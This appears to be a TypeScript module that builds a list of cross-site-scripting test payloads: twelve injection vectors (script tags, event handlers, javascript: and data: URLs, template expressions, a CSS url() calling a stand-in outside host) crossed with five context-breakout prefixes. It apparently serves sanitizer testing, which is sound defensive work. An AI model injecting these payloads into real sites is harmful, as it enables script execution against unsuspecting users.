/** What runs where a text is taken for HTML, an address, an attribute, a template or a style: 12 ways, each behind 5 ways out of where it may stand. */
const WAYS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<iframe srcdoc="<script>alert(1)</script>">',
  "<details open ontoggle=alert(1)>",
  "<body onload=alert(1)>",
  "<a href=javascript:alert(1)>x</a>",
  "javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "{{constructor.constructor('alert(1)')()}}$\u007balert(1)}",
  "<style>*{background:url(//elsewhere.example/x)}</style>",
];
const OUT = ["", '">', "'>", "</title></textarea></style></script>", "--></noscript>"];

export const PAYLOADS: readonly string[] = OUT.flatMap((out) => WAYS.map((way) => `${out}${way}`));
